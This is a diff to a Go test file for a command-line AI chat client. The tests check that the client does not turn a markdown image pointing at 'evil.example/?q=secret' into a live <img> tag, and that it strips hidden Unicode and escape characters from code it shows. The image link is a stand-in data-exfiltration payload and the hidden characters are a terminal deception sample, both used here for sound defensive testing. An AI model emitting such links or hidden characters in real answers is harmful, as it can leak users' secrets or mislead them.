@@ -48,7 +48,7 @@ var showing = []fault{
 		}
 	}},
 	{row: "G15", what: "an image in a page", test: func(t *testing.T) {
-		h, _ := asks(t, demo.Stream(demo.Answer("![x](https://evil.example/?q=secret)")...))
+		h, _ := scripted(t, demo.Stream(demo.Answer("![x](https://evil.example/?q=secret)")...))
 		h.run("hi")
 		page := h.run("cat", "--format", "html").stdout
 		if strings.Contains(page, "<img") || !strings.Contains(page, "![x](") {
@@ -60,19 +60,14 @@ var showing = []fault{
 	}},
 	{row: "G16", what: "code with hidden characters", test: func(t *testing.T) {
 		const code = "echo a\u200bb # \u202e\x1b[2J\n"
-		h, _ := asks(t, demo.Stream(demo.Answer("```sh\n"+code+"```\n")...))
+		h, _ := scripted(t, demo.Stream(demo.Answer("```sh\n"+code+"```\n")...))
 		h.run("hi")
-		note := []string{"oax: 2 hidden characters removed; --raw keeps them\n"}
 		r := h.run("cat", "--code")
-		if r.stdout != "echo ab # \x1b[2J\n" || r.stderr != note[0] {
-			t.Errorf("%+v", r)
-		}
-		if r := h.run("cat", "--code", "--raw"); r.stdout != code || r.stderr != "" {
-			t.Errorf("--raw: %+v", r)
-		}
+		h.checkRun(r, want{stdout: "echo ab # \x1b[2J\n", notes: true})
+		h.checkRun(h.run("cat", "--code", "--raw"), want{stdout: code})
 		c := h.at(h.command("cat", "--code"))
 		c.end()
-		if c.shown() != "echo ab # ^[[2J\n"+note[0] && c.shown() != note[0]+"echo ab # ^[[2J\n" {
+		if shown := strings.Replace(c.shown(), r.stderr, "", 1); shown != "echo ab # ^[[2J\n" {
 			t.Errorf("on a terminal %q", c.shown())
 		}
 	}},
@@ -99,7 +94,7 @@ func numbered(n int) string {
 // pages returns a home with one session, and a pager that keeps what it gets in a file,
 // and beside it in .env its environment.
 func pages(t *testing.T, answer string) (h *home, paged string) {
-	h, _ = asks(t, demo.Stream(demo.Answer(answer)...))
+	h, _ = scripted(t, demo.Stream(demo.Answer(answer)...))
 	h.run("hi")
 	paged = filepath.Join(h.dir, "paged")
 	pager := filepath.Join(h.dir, "pager")
@@ -180,7 +175,7 @@ func TestPagerEndsWithOax(t *testing.T) {
 // TestLess goes through a session in the real pager.
 func TestLess(t *testing.T) {
 	t.Parallel()
-	h, _ := asks(t, demo.Stream(demo.Answer(numbered(100))...))
+	h, _ := scripted(t, demo.Stream(demo.Answer(numbered(100))...))
 	h.run("hi")
 	w := h.window(60, 12, `trap : INT; before=$(stty -g); PAGER=less "$OAX" cat; code=$?
 		[ "$before" = "$(stty -g)" ] && state=sane || state=spoilt; echo; echo "code $code, $state"`)
